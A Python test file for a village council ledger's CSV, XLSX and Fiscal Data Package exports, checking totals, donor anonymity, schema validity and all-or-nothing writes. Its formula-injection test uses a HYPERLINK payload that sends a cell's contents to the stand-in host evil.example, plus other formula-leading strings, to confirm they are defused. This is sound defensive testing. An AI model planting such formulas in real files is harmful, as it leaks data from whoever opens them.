"""The year's exports (DESIGN §4.4): ``export csv|xlsx|fdp``.

Each format is read back and held to the ledger: as many transactions as the year has, their
amounts summing to the ledger's in tenge, a reversal among them with its negative amount, the
budget's actuals and the year's requests and donations as the core has them, and the demo's
anonymous donor named nowhere. A counterparty that is a formula stays text in the workbook
(no cell is a formula) and is defused in the CSV; the Fiscal Data Package validates against
the published schema (tests/data/fiscal-data-package.schema.json); every refusal (a member,
an auditor, an existing or misplaced output, a bad year) exits 2 and writes nothing, and a
failure halfway leaves nothing behind.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Iterator
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from _council import adopt_budget, council_ledger
from _helpers import admin_of, english, fresh_ledger, payment, receipt, user_of

from ruralcouncil import cli
from ruralcouncil.ledger import budget, chain, donations, journal, queries, spending
from ruralcouncil.ledger.demo import DEMO_PASSWORD, create_demo
from ruralcouncil.ledger.errors import InvalidInput, PermissionDenied
from ruralcouncil.ledger.storage import Ledger, open_ledger
from ruralcouncil.reports import exports
from ruralcouncil.reports.export_rows import year_tables

__all__ = ["english"]  # the module's messages in English (an autouse fixture)

SCHEMA = Path(__file__).parent / "data" / "fiscal-data-package.schema.json"
TABLES = [
    "transactions",
    "budget",
    "requests",
    "donations",
    "projects",
    "households",
    "contributions",
    "subsidies",
    "loans",
    "assets",
    "leases",
    "fines",
]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


# --- the demo village --------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("demo") / "demo.ruralcouncil"
    create_demo(path).close()
    return path


@pytest.fixture(scope="module")
def demo(demo_file: Path) -> Iterator[Ledger]:
    ledger = open_ledger(demo_file, write=False)
    yield ledger
    ledger.close()


@pytest.fixture(scope="module")
def year(demo: Ledger) -> int:
    """The demo's year with everything: a budget, requests, an anonymous gift."""
    return next(
        y
        for y in reversed(queries.years(demo.conn))
        if budget.has_budget(demo.conn, y)
        and any(d.anonymous for d in donations.donations(demo.conn, year=y))
    )


@pytest.fixture(scope="module")
def clerk(demo: Ledger) -> Any:
    return user_of(demo, "aigerim", DEMO_PASSWORD)


def _entries(ledger: Ledger, year: int) -> list[tuple[int, str, int, int | None]]:
    """The year's entries straight from the table: (number, type, amount, reverses)."""
    return [
        (int(r[0]), str(r[1]), int(r[2]), r[3])
        for r in ledger.conn.execute(
            "SELECT t.number, t.type, t.amount, (SELECT o.number FROM transactions o"
            " WHERE o.id = t.reverses) FROM transactions t WHERE t.date BETWEEN ? AND ?"
            " ORDER BY t.date, t.id",
            (f"{year}-01-01", f"{year}-12-31"),
        )
    ]


def _tenge(tiyn: int) -> Decimal:
    return Decimal(tiyn) / 100


def _anonymous_names(ledger: Ledger, year: int) -> list[str]:
    names = [d.donor for d in donations.donations(ledger.conn, year=year) if d.anonymous]
    assert names
    return names


def _read_csv(path: Path, encoding: str = "utf-8-sig") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as handle:
        return list(csv.DictReader(handle))


# --- CSV ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def csv_folder(
    demo: Ledger, clerk: Any, year: int, tmp_path_factory: pytest.TempPathFactory
) -> Path:
    folder = tmp_path_factory.mktemp("csv") / "export"
    exports.export_csv(demo, clerk, year, folder)
    return folder


def test_csv_writes_a_file_per_table_with_a_header(csv_folder: Path) -> None:
    assert sorted(p.name for p in csv_folder.iterdir()) == sorted(
        f"{name}.csv" for name in ["about", *TABLES]
    )
    for name in TABLES:
        raw = (csv_folder / f"{name}.csv").read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")  # Excel on a Kazakh Windows reads it as UTF-8
        header = raw.decode("utf-8-sig").splitlines()[0].split(",")
        assert header[0] == "id" or name in ("budget", "households")


def test_csv_transactions_are_the_ledgers(csv_folder: Path, demo: Ledger, year: int) -> None:
    rows = _read_csv(csv_folder / "transactions.csv")
    ledger_rows = _entries(demo, year)
    assert [int(r["id"]) for r in rows] == [n for n, *_rest in ledger_rows]
    assert sum(Decimal(r["amount"]) for r in rows) == _tenge(
        sum(a for _n, _t, a, _r in ledger_rows)
    )
    assert all(re.fullmatch(r"-?[0-9]+\.[0-9]{2}", r["amount"]) for r in rows)
    for kind in ("receipt", "payment", "transfer"):
        assert sum(Decimal(r["amount"]) for r in rows if r["type"] == kind) == _tenge(
            sum(a for _n, t, a, _r in ledger_rows if t == kind)
        )
    reversals = [r for r in rows if r["reverses"]]
    expected = [(n, r) for n, _t, _a, r in ledger_rows if r is not None]
    assert reversals and [(int(r["id"]), int(r["reverses"])) for r in reversals] == expected
    assert all(Decimal(r["amount"]) < 0 for r in reversals)
    # The category's names in the three languages, and each entry's chain position.
    tax = next(r for r in rows if r["category"] == "DONATION")
    assert tax["category_en"] == "Voluntary donations" and tax["category_kk"]
    assert all(int(r["chain_seq"]) > 0 for r in rows)


def test_csv_budget_requests_and_donations_are_the_cores(
    csv_folder: Path, demo: Ledger, year: int
) -> None:
    lines = budget.show(demo.conn, year)
    rows = _read_csv(csv_folder / "budget.csv")
    assert len(rows) == len(lines)
    for kind, actual in (("expenditure", "paid"), ("revenue", "received")):
        assert sum(Decimal(r["actual"]) for r in rows if r["kind"] == kind) == _tenge(
            sum(getattr(line, actual) for line in lines if line.kind == kind)
        )
    assert {r["version"] for r in rows} == {"1"}
    requests = spending.requests(demo.conn, year=year)
    rows = _read_csv(csv_folder / "requests.csv")
    assert [int(r["id"]) for r in rows] == [q.id for q in requests]
    assert sum(Decimal(r["paid"]) for r in rows) == _tenge(sum(q.paid for q in requests))
    by_resolution = [r for r in rows if r["resolution"]]
    alone = [r for r in rows if r["approved_by"] and not r["resolution"]]
    assert by_resolution and alone  # the council's approvals and the chair's alone
    paid = next(r for r in rows if r["state"] == "paid")
    numbers = [int(n) for n in paid["paid_entries"].split()]
    assert [p.number for p in spending.payments(demo.conn, int(paid["id"]))] == numbers
    gifts = donations.donations(demo.conn, year=year)
    rows = _read_csv(csv_folder / "donations.csv")
    assert len(rows) == len(gifts)
    assert sum(Decimal(r["amount"]) for r in rows) == _tenge(sum(d.amount for d in gifts))


def test_csv_never_names_an_anonymous_donor(csv_folder: Path, demo: Ledger, year: int) -> None:
    rows = _read_csv(csv_folder / "donations.csv")
    hidden = [r for r in rows if r["anonymous"] == "true"]
    assert hidden and all(r["donor"] == "Anonymous donor" and not r["party"] for r in hidden)
    everything = "".join(p.read_text(encoding="utf-8-sig") for p in csv_folder.iterdir())
    for name in _anonymous_names(demo, year):
        assert name not in everything


def test_csv_about_holds_the_chains_anchor(csv_folder: Path, demo: Ledger) -> None:
    about = {r["key"]: r["value"] for r in _read_csv(csv_folder / "about.csv")}
    entries, head = chain.head(demo.conn)
    assert about["anchor"] == f"{entries}:{head}" and about["currency"] == "KZT"


# --- XLSX --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def workbook(demo: Ledger, clerk: Any, year: int, tmp_path_factory: pytest.TempPathFactory) -> Any:
    from openpyxl import load_workbook

    path = tmp_path_factory.mktemp("xlsx") / "export.xlsx"
    exports.export_xlsx(demo, clerk, year, path)
    return load_workbook(path)


def _sheet_rows(workbook: Any, name: str) -> list[dict[str, Any]]:
    rows = list(workbook[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_xlsx_has_a_sheet_per_table(workbook: Any) -> None:
    assert workbook.sheetnames == ["about", *TABLES]


def test_xlsx_transactions_are_numbers_and_dates(workbook: Any, demo: Ledger, year: int) -> None:
    rows = _sheet_rows(workbook, "transactions")
    ledger_rows = _entries(demo, year)
    assert len(rows) == len(ledger_rows)
    total = sum(Decimal(str(r["amount"])) for r in rows)
    assert total == _tenge(sum(a for _n, _t, a, _r in ledger_rows))
    assert all(isinstance(r["date"], datetime) and r["date"].year == year for r in rows)
    assert any(r["reverses"] is not None and r["amount"] < 0 for r in rows)
    sheet = workbook["transactions"]
    header = [c.value for c in sheet[1]]
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
    assert sheet.cell(row=2, column=header.index("date") + 1).number_format == "yyyy-mm-dd"


def test_xlsx_never_names_an_anonymous_donor(workbook: Any, demo: Ledger, year: int) -> None:
    texts = {
        str(cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
    for name in _anonymous_names(demo, year):
        assert not any(name in text for text in texts)
    assert "Anonymous donor" in texts


# --- a formula in the ledger's text ------------------------------------------------------


def test_a_formula_stays_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    ledger = fresh_ledger(tmp_path)
    admin = admin_of(ledger)
    receipt(ledger, admin, "2026-03-01", 1_500_00, counterparty=EVIL, description="+7 cmd")
    paid = payment(ledger, admin, "2026-03-02", 500_00, reference="@SUM(A1:A9)")
    journal.reverse(ledger, admin, paid, "typed twice")
    exports.export_xlsx(ledger, admin, 2026, tmp_path / "x.xlsx")
    exports.export_csv(ledger, admin, 2026, tmp_path / "csv")
    book = load_workbook(tmp_path / "x.xlsx")
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    evil = [c for c in cells if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s" and evil[0].quotePrefix
    assert next(c for c in cells if c.value == "+7 cmd").quotePrefix
    assert [c for c in cells if c.value == "@SUM(A1:A9)"]
    rows = _read_csv(tmp_path / "csv" / "transactions.csv")
    assert rows[0]["counterparty"] == "'" + EVIL and rows[0]["description"] == "'+7 cmd"
    assert rows[1]["reference"] == "'@SUM(A1:A9)"
    assert [r["amount"] for r in rows] == ["1500.00", "500.00", "-500.00"]  # numbers stay


# --- the Fiscal Data Package -------------------------------------------------------------


def _violations(schema: Any, value: Any, where: str = "$") -> list[str]:
    """The draft-04 keywords the Fiscal Data Package schema uses, checked by hand: what a
    test falls back on when the jsonschema package is not installed."""
    found: list[str] = []
    types = {
        "object": dict,
        "array": list,
        "string": str,
        "boolean": bool,
        "null": type(None),
    }

    def is_type(name: str) -> bool:
        if name in ("number", "integer"):
            number = isinstance(value, int | float) and not isinstance(value, bool)
            return number and (name == "number" or float(value).is_integer())
        return isinstance(value, types[name])

    kinds = schema.get("type")
    if kinds is not None:
        names = kinds if isinstance(kinds, list) else [kinds]
        if not any(is_type(n) for n in names):
            return [f"{where}: not of type {kinds}"]
    if "enum" in schema and value not in schema["enum"]:
        found.append(f"{where}: {value!r} not one of {schema['enum']}")
    if isinstance(value, str) and "pattern" in schema and not re.search(schema["pattern"], value):
        found.append(f"{where}: {value!r} does not match {schema['pattern']}")
    if isinstance(value, dict):
        found += [f"{where}: {k} is required" for k in schema.get("required", []) if k not in value]
        for key, item in value.items():
            if key in schema.get("properties", {}):
                found += _violations(schema["properties"][key], item, f"{where}.{key}")
            for pattern, sub in schema.get("patternProperties", {}).items():
                if re.search(pattern, key):
                    found += _violations(sub, item, f"{where}.{key}")
    if isinstance(value, list):
        if len(value) < schema.get("minItems", 0):
            found.append(f"{where}: fewer than {schema['minItems']} items")
        if isinstance(schema.get("items"), dict):
            for n, item in enumerate(value):
                found += _violations(schema["items"], item, f"{where}[{n}]")
    for sub in schema.get("allOf", []):
        found += _violations(sub, value, where)
    if "anyOf" in schema and all(_violations(s, value, where) for s in schema["anyOf"]):
        found.append(f"{where}: matches none of anyOf")
    if "oneOf" in schema:
        matched = sum(not _violations(s, value, where) for s in schema["oneOf"])
        if matched != 1:
            found.append(f"{where}: matches {matched} of oneOf, not exactly one")
    return found


def _schema_problems(descriptor: Any) -> list[str]:
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    try:
        import jsonschema
    except ImportError:
        return _violations(schema, descriptor)
    return [e.message for e in jsonschema.Draft4Validator(schema).iter_errors(descriptor)]


@pytest.fixture(scope="module")
def package(demo: Ledger, clerk: Any, year: int, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("fdp") / "open-data"
    exports.export_fdp(demo, clerk, year, folder)
    return folder


def test_fdp_validates_against_the_published_schema(package: Path) -> None:
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert _schema_problems(descriptor) == []
    assert _violations(json.loads(SCHEMA.read_text(encoding="utf-8")), descriptor) == []


def test_the_fallback_validator_finds_what_jsonschema_finds(package: Path) -> None:
    """The hand-made check is not a check of nothing: each breakage is caught by it, and
    by jsonschema when installed."""
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    good = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    breakages = [
        lambda d: d["model"]["measures"]["paid"].pop("currency"),
        lambda d: d["model"]["measures"]["paid"].update(phase="spent"),
        lambda d: d["model"]["measures"]["paid"].update(direction="outgoing"),
        lambda d: d["model"]["measures"]["paid"].update(currency="tenge"),
        lambda d: d.pop("model"),
        lambda d: d.update(profile="data-package"),
        lambda d: d["resources"][0].pop("schema"),
        lambda d: d["resources"][0].update(name="Budget 2026"),
        lambda d: d["model"]["dimensions"]["entry"].pop("primaryKey"),
        lambda d: d["resources"][1]["schema"]["fields"][0].update(type="money"),
    ]
    for breakage in breakages:
        broken = json.loads(json.dumps(good))
        breakage(broken)
        assert _violations(schema, broken), breakage
        assert _schema_problems(broken), breakage


def test_fdp_marks_every_amount_in_kzt_with_direction_and_phase(package: Path) -> None:
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    measures = descriptor["model"]["measures"]
    assert {m["currency"] for m in measures.values()} == {"KZT"}
    assert {(m["direction"], m["phase"]) for m in measures.values()} == {
        (d, p) for d in ("expenditure", "revenue") for p in ("approved", "executed")
    }
    for resource in descriptor["resources"]:
        header = (package / resource["path"]).read_text(encoding="utf-8").splitlines()[0]
        assert header.split(",") == [f["name"] for f in resource["schema"]["fields"]]
        names = {f["name"] for f in resource["schema"]["fields"]}
        sources = {m["source"] for m in measures.values() if m["resource"] == resource["name"]}
        assert sources and sources <= names
    assert descriptor["fiscalPeriod"]["start"].endswith("-01-01")


def test_fdp_figures_are_the_ledgers(package: Path, demo: Ledger, year: int) -> None:
    budget_rows = _read_csv(package / "budget.csv", "utf-8")
    entries = _read_csv(package / "entries.csv", "utf-8")
    ledger_rows = _entries(demo, year)
    moving = [(t, a) for _n, t, a, _r in ledger_rows if t in ("payment", "receipt")]
    assert len(entries) == len(moving)
    version = budget.versions(demo.conn, year)[0]
    for direction, kind, column in (
        ("expenditure", "payment", "paid"),
        ("revenue", "receipt", "received"),
    ):
        total = _tenge(sum(a for t, a in moving if t == kind))
        assert sum(Decimal(r[column]) for r in entries if r[column]) == total
        assert sum(Decimal(r[f"{direction}_executed"] or "0") for r in budget_rows) == total
        adopted = sum(
            amount
            for (code, _fund), amount in version.lines.items()
            if next(line.kind for line in budget.show(demo.conn, year) if line.category == code)
            == direction
        )
        assert sum(Decimal(r[f"{direction}_approved"] or "0") for r in budget_rows) == _tenge(
            adopted
        )
    assert any(Decimal(r["paid"] or r["received"]) < 0 for r in entries if r["reverses"])
    for name in _anonymous_names(demo, year):
        assert name not in (package / "entries.csv").read_text(encoding="utf-8")


def test_fdp_of_an_amended_budget_has_the_adjusted_phase(tmp_path: Path) -> None:
    c = council_ledger(tmp_path)
    adopt_budget(c)
    amended = (
        b"category,fund,amount\nROADS,GENERAL,350000\nSTAFF,GENERAL,200000\n"
        b"ROADS,ROADFUND,50000\nTAX-LAND,GENERAL,1100000\n"
    )
    adopt_budget(c, amended, on="2026-03-01")
    exports.export_fdp(c.ledger, c.clerk, 2026, tmp_path / "fdp")
    descriptor = json.loads((tmp_path / "fdp" / "datapackage.json").read_text(encoding="utf-8"))
    assert _schema_problems(descriptor) == []
    phases = {m["phase"] for m in descriptor["model"]["measures"].values()}
    assert phases == {"approved", "adjusted", "executed"}
    rows = {(r["code"], r["fund"]): r for r in _read_csv(tmp_path / "fdp" / "budget.csv", "utf-8")}
    roads = rows[("ROADS", "GENERAL")]
    assert (roads["expenditure_approved"], roads["expenditure_adjusted"]) == (
        "300000.00",
        "350000.00",
    )
    assert rows[("TAX-LAND", "GENERAL")]["revenue_adjusted"] == "1100000.00"
    assert roads["revenue_approved"] == ""  # a program has no revenue figures


# --- a year with nothing, and all or nothing ---------------------------------------------


def test_a_year_with_nothing_exports_empty_tables(tmp_path: Path) -> None:
    ledger = fresh_ledger(tmp_path)
    admin = admin_of(ledger)
    export = exports.export_csv(ledger, admin, 2019, tmp_path / "csv")
    assert all(not t.rows for t in export.tables)
    for name in TABLES:
        lines = (tmp_path / "csv" / f"{name}.csv").read_text(encoding="utf-8-sig").splitlines()
        assert len(lines) == 1 and lines[0]
    exports.export_fdp(ledger, admin, 2019, tmp_path / "fdp")
    descriptor = json.loads((tmp_path / "fdp" / "datapackage.json").read_text(encoding="utf-8"))
    assert _schema_problems(descriptor) == []


def test_a_failure_halfway_leaves_nothing(
    demo: Ledger, clerk: Any, year: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    real = exports._write_csv
    written: list[str] = []

    def fail_on_the_third(path: Path, table: Any, encoding: str) -> None:
        if len(written) == 2:
            raise OSError(28, "No space left on device")
        written.append(table.name)
        real(path, table, encoding)

    monkeypatch.setattr(exports, "_write_csv", fail_on_the_third)
    with pytest.raises(OSError):
        exports.export_csv(demo, clerk, year, tmp_path / "csv")
    assert list(tmp_path.iterdir()) == []
    monkeypatch.undo()

    from openpyxl import Workbook

    save = Workbook.save

    def broken_save(self: Any, filename: str) -> None:
        save(self, filename)  # written out, then the disk is full before the rename
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Workbook, "save", broken_save)
    with pytest.raises(OSError):
        exports.export_xlsx(demo, clerk, year, tmp_path / "x.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_the_core_refuses_a_member_and_an_existing_output(
    demo: Ledger, clerk: Any, year: int, tmp_path: Path
) -> None:
    member = user_of(demo, "dana", DEMO_PASSWORD)
    with pytest.raises(PermissionDenied, match="may not export"):
        exports.export_xlsx(demo, member, year, tmp_path / "x.xlsx")
    (tmp_path / "taken.xlsx").write_bytes(b"mine")
    with pytest.raises(InvalidInput, match="already exists"):
        exports.export_xlsx(demo, clerk, year, tmp_path / "taken.xlsx")
    assert (tmp_path / "taken.xlsx").read_bytes() == b"mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["taken.xlsx"]


def test_the_tables_are_read_in_one_moment(demo: Ledger, year: int) -> None:
    export = year_tables(demo, year)
    assert (export.entries, export.head) == chain.head(demo.conn)
    assert export.ledger_id == chain.first_hash(demo.conn)


# --- the command line --------------------------------------------------------------------


@pytest.fixture
def village(demo_file: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "village.ruralcouncil"
    shutil.copyfile(demo_file, path)
    monkeypatch.setenv("RURALCOUNCIL_PASSWORD", DEMO_PASSWORD)
    return path


def _run(capsys: pytest.CaptureFixture[str], village: Path, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = cli.main(["--lang", "en", "--db", str(village), "export", *args])
    out, err = capsys.readouterr()
    return code, out, err


def _chain_length(path: Path) -> int:
    ledger = open_ledger(path, write=False)
    try:
        return chain.head(ledger.conn)[0]
    finally:
        ledger.close()


@pytest.mark.parametrize("kind", ["csv", "xlsx", "fdp"])
def test_cli_exports_each_format_and_writes_nothing_to_the_ledger(
    kind: str, village: Path, year: int, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    before = _chain_length(village)
    target = tmp_path / ("out.xlsx" if kind == "xlsx" else "out")
    code, out, err = _run(
        capsys, village, kind, "--year", str(year), "-o", str(target), "--user", "aigerim"
    )
    assert (code, err) == (0, "")
    assert str(target) in out
    assert target.is_file() if kind == "xlsx" else (target / "budget.csv").is_file()
    assert _chain_length(village) == before
    assert not [p for p in tmp_path.iterdir() if ".part" in p.name]


def test_cli_accepts_an_empty_folder(
    village: Path, year: int, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    (tmp_path / "empty").mkdir()
    code, _out, err = _run(
        capsys,
        village,
        "csv",
        "--year",
        str(year),
        "-o",
        str(tmp_path / "empty"),
        "--user",
        "admin",
    )
    assert (code, err) == (0, "")
    assert (tmp_path / "empty" / "transactions.csv").is_file()


@pytest.mark.parametrize(
    ("kind", "output", "user", "year", "reason"),
    [
        ("xlsx", "x.xlsx", "dana", None, "dana (Council member) may not export the ledger."),
        ("fdp", "fdp", "nurlan", None, "nurlan (Internal auditor) may not export the ledger."),
        ("csv", "csv", "serik", None, "serik (Chair) may not export the ledger."),
        ("xlsx", "taken.xlsx", "aigerim", None, "already exists; choose another file name"),
        ("csv", "full", "aigerim", None, "already exists and is not an empty folder"),
        ("fdp", "taken.xlsx", "aigerim", None, "already exists and is not an empty folder"),
        ("xlsx", "no/such/x.xlsx", "aigerim", None, "does not exist. Nothing was written."),
        ("csv", "out", "aigerim", "26", "year '26' must be four digits"),
        ("fdp", "out", "aigerim", "", "--year is required"),
    ],
)
def test_cli_refusals_write_nothing(
    kind: str,
    output: str,
    user: str,
    year: str | None,
    reason: str,
    village: Path,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    out_dir = tmp_path / "outputs"
    out_dir.mkdir()
    (out_dir / "taken.xlsx").write_bytes(b"mine")
    (out_dir / "full").mkdir()
    (out_dir / "full" / "keep.txt").write_text("keep", encoding="utf-8")
    before = sorted(str(p.relative_to(out_dir)) for p in out_dir.rglob("*"))
    length = _chain_length(village)
    code, out, err = _run(
        capsys,
        village,
        kind,
        "--year",
        "2026" if year is None else year,
        "-o",
        str(out_dir / output),
        "--user",
        user,
    )
    assert code == 2 and out == ""
    assert reason in err
    assert sorted(str(p.relative_to(out_dir)) for p in out_dir.rglob("*")) == before
    assert (out_dir / "taken.xlsx").read_bytes() == b"mine"
    assert _chain_length(village) == length


def test_cli_refuses_a_wrong_password(
    village: Path,
    year: int,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RURALCOUNCIL_PASSWORD", "not-the-password")
    code, _out, err = _run(
        capsys,
        village,
        "xlsx",
        "--year",
        str(year),
        "-o",
        str(tmp_path / "x.xlsx"),
        "--user",
        "aigerim",
    )
    assert code == 2 and "Wrong user name or password" in err
    assert not (tmp_path / "x.xlsx").exists()
